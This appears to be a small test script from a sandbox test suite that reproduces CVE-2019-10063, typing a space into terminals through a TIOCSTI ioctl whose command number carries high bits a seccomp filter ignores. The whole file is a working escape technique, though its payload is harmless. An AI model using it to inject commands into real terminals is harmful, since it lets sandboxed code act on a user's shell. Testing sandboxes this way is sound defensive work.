"""Type into the terminal by a number whose upper half only a filter looks at (CVE-2019-10063)."""

import sys

from _tools import call, succeed, terminals

TIOCSTI = 0x5412
for terminal in terminals():
    try:
        call("ioctl", terminal, TIOCSTI | 1 << 32, b" ")
    except OSError as error:
        print(error)
    else:
        succeed("typed")
sys.exit("typed nothing")
